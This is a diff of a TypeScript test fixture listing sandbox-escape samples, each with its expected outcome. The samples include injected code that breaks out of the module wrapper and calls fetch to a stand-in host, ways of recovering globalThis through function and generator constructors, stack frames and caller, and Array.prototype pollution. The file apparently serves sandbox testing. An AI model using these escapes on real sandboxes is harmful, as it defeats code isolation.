@@ -16,7 +16,7 @@ const tryAll = `const ways: (() => unknown)[] = [
 for (const way of ways) try { void way(); } catch {}`;
 
 const refused = { place: 'module', outcome: 'refused' } as const;
-const polluted = { place: 'function', outcome: 'explained', needsPage: true } as const;
+const polluted = { place: 'function', outcome: 'explained' } as const;
 
 /** Code that tries to get behind what it is given, and at what belongs to the kernel. */
 export const escapes: readonly HostileProgram[] = [
@@ -29,10 +29,10 @@ export const escapes: readonly HostileProgram[] = [
   { ...refused, name: 'an end of what stands around the module', text: "})(); globalThis.fetch('http://ELSEWHERE/closed'); (function () {" },
   { ...refused, name: 'an end of the object that it stands in', text: "}, 'x': (() => { globalThis.fetch('http://ELSEWHERE/object') })() }); ({" },
   { name: 'Function by another name', place: 'module', outcome: 'stops', says: /Code cannot be made from text/, text: "const Make = Function;\nnew Make('return this')();" },
-  { name: 'a constructor of functions', place: 'function', outcome: 'explained', needsPage: true, text: `let real: any;\ntry { real = (() => 0).constructor('return globalThis')(); } catch {}\n${tryAll}` },
-  { name: 'a constructor of generators', place: 'function', outcome: 'explained', needsPage: true, text: `let real: any;\ntry { real = Object.getPrototypeOf(function* () { yield 0; }).constructor('return globalThis')().next(); } catch {}\n${tryAll}` },
-  { name: 'the receivers on the stack', place: 'function', outcome: 'explained', needsPage: true, text: `(Error as any).prepareStackTrace = (_: unknown, frames: any[]) => frames.map((frame) => { try { return frame.getThis(); } catch {} }).find((receiver) => receiver?.importScripts);\nconst real: any = (new Error() as any).stack;\n(Error as any).prepareStackTrace = undefined;\n${tryAll}` },
-  { name: 'the caller of its caller', place: 'function', outcome: 'explained', needsPage: true, text: `let real: any;\nfunction look() { real = (look as any).caller; }\ntry { look(); } catch {}\n${tryAll}` },
+  { name: 'a constructor of functions', place: 'function', outcome: 'explained', text: `let real: any;\ntry { real = (() => 0).constructor('return globalThis')(); } catch {}\n${tryAll}` },
+  { name: 'a constructor of generators', place: 'function', outcome: 'explained', text: `let real: any;\ntry { real = Object.getPrototypeOf(function* () { yield 0; }).constructor('return globalThis')().next(); } catch {}\n${tryAll}` },
+  { name: 'the receivers on the stack', place: 'function', outcome: 'explained', text: `(Error as any).prepareStackTrace = (_: unknown, frames: any[]) => frames.map((frame) => { try { return frame.getThis(); } catch {} }).find((receiver) => receiver?.importScripts);\nconst real: any = (new Error() as any).stack;\n(Error as any).prepareStackTrace = undefined;\n${tryAll}` },
+  { name: 'the caller of its caller', place: 'function', outcome: 'explained', text: `let real: any;\nfunction look() { real = (look as any).caller; }\ntry { look(); } catch {}\n${tryAll}` },
   { ...polluted, name: 'Array.prototype.push that keeps nothing', text: 'Array.prototype.push = () => 0;' },
   { ...polluted, name: 'Array.prototype.push that never ends', text: 'Array.prototype.push = () => { for (;;) {} };' },
   { ...polluted, name: 'Array.prototype.push that throws', text: "Array.prototype.push = () => { throw new Error('no room'); };" },
